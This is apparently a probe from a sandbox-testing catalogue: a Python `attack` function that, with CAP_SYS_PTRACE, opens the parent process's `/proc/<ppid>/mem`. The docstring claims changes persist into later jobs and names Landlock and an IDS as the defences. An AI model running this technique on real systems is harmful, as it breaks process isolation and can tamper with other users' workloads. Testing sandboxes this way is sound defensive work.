"""Open the memory of the process that forked this one.

What is changed there is in every later job.

Stopped by: landlock, ids
"""

import os

from calls import CAP_SYS_PTRACE, needs


def attack(facts):
    needs(facts, CAP_SYS_PTRACE)
    os.open(f"/proc/{os.getppid()}/mem", os.O_RDONLY)
